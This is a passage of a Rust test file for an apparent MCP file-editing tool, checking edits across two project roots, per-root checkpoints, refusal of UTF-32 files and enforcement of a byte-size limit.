        read(json!({"path": "a.txt", "offset": 18446744073709551616.0_f64})),
    ]]);
    let r = s.mcp(&[&s.root_str()], &steps)?;
    for (i, want) in ["2\n3\n", "2\n3\n", ""].iter().enumerate() {
        let v = tool_ok(&r[0][i])?;
        ensure!(v["content"] == *want, "call {i}: {v}");
    }
    Ok(())
}

fn second_root(s: &Sandbox) -> (String, String) {
    let second = s.base.join("second");
    std::fs::create_dir_all(&second).unwrap();
    std::fs::write(second.join("b.txt"), "bravo\n").unwrap();
    (
        second.to_string_lossy().into_owned(),
        second.join("b.txt").to_string_lossy().into_owned(),
    )
}

/// One call with an absolute path into the second of two roots.
fn edit_in_second_root(s: &Sandbox, tool: &str, args: impl Fn(&str) -> Value, want: &str) -> R {
    let (second, b) = second_root(s);
    s.baseline();
    let steps = json!([[{"tool": tool, "args": args(&b)}]]);
    let r = s.mcp(&[&s.root_str(), &second], &steps)?;
    tool_ok(&r[0][0])?;
    let now = std::fs::read_to_string(&b).unwrap();
    ensure!(now == want, "not applied: {now:?}");
    Ok(())
}

fn mcp_apply_patch_reaches_the_second_root(s: &Sandbox) -> R {
    let patch = |b: &str| {
        let p =
            format!("*** Begin Patch\n*** Update File: {b}\n@@\n-bravo\n+charlie\n*** End Patch\n");
        json!({ "patch": p })
    };
    edit_in_second_root(s, "apply_patch", patch, "charlie\n")
}

fn mcp_apply_edits_reaches_the_second_root(s: &Sandbox) -> R {
    let text = |b: &str| json!({ "text": search_replace(b, "bravo", "delta") });
    edit_in_second_root(s, "apply_edits", text, "delta\n")
}

fn mcp_checkpoint_list_reaches_the_second_root(s: &Sandbox) -> R {
    let (second, _) = second_root(s);
    s.baseline();
    let steps = json!([
        [{"tool": "checkpoint_create", "args": {"label": "second", "root": second}}],
        [{"tool": "checkpoint_list", "args": {"root": second}}],
        [{"tool": "checkpoint_list", "args": {}}],
    ]);
    let r = s.mcp(&[&s.root_str(), &second], &steps)?;
    tool_ok(&r[0][0])?;
    let in_second = tool_ok(&r[1][0])?;
    let in_first = tool_ok(&r[2][0])?;
    ensure!(
        in_second["checkpoints"][0]["label"] == "second",
        "{in_second}"
    );
    ensure!(in_first == json!({"checkpoints": []}), "{in_first}");
    Ok(())
}

fn mcp_one_call_across_two_roots_is_refused(s: &Sandbox) -> R {
    let (second, b) = second_root(s);
    s.write("a.txt", "alpha\n");
    s.baseline();
    let text = format!(
        "{}\n{}",
        search_replace("a.txt", "alpha", "beta"),
        search_replace(&b, "bravo", "delta")
    );
    let steps = json!([[{"tool": "apply_edits", "args": {"text": text}}]]);
    let r = s.mcp(&[&s.root_str(), &second], &steps)?;
    tool_refused(&r[0][0], "more than one project root")?;
    unchanged(s, "a.txt", b"alpha\n")?;
    ensure!(std::fs::read_to_string(&b).unwrap() == "bravo\n", "changed");
    Ok(())
}

// ------------------------------------------------- encodings and limits

fn utf32le_refused_by_name(s: &Sandbox) -> R {
    let bytes: Vec<u8> = [0xFF, 0xFE, 0, 0]
        .into_iter()
        .chain("hi\n".chars().flat_map(|c| (c as u32).to_le_bytes()))
        .collect();
    s.write("w.txt", &bytes);
    s.baseline();
    let res = s.mcp_call("write_file", &json!({"path": "w.txt", "content": "ho\n"}))?;
    tool_refused(&res, "UTF-32LE")?;
    unchanged(s, "w.txt", &bytes)
}

fn utf32be_refused_by_name(s: &Sandbox) -> R {
    let bytes: Vec<u8> = [0, 0, 0xFE, 0xFF]
        .into_iter()
        .chain("hi\n".chars().flat_map(|c| (c as u32).to_be_bytes()))
        .collect();
    s.write("w.txt", &bytes);
    s.baseline();
    refused(
        &s.apply(&[], &search_replace("w.txt", "hi", "ho")),
        "UTF-32BE",
    )?;
    unchanged(s, "w.txt", &bytes)
}

fn write_over_the_size_limit_refused(s: &Sandbox) -> R {
    s.baseline();
    let big = "x".repeat(200);
    let out = s.apply(&["--max-bytes", "100"], &patch_add("big.txt", &big));
    refused(&out, "over the 100-byte limit")?;
    ensure!(!s.exists("big.txt"), "the file was written");
    Ok(())
}

fn edit_growing_past_the_size_limit_refused(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    s.baseline();
    let out = s.apply(
        &["--max-bytes", "100"],
        &search_replace("a.txt", "alpha", &"y".repeat(150)),
    );
    refused(&out, "over the 100-byte limit")?;
    unchanged(s, "a.txt", b"alpha\n")
}
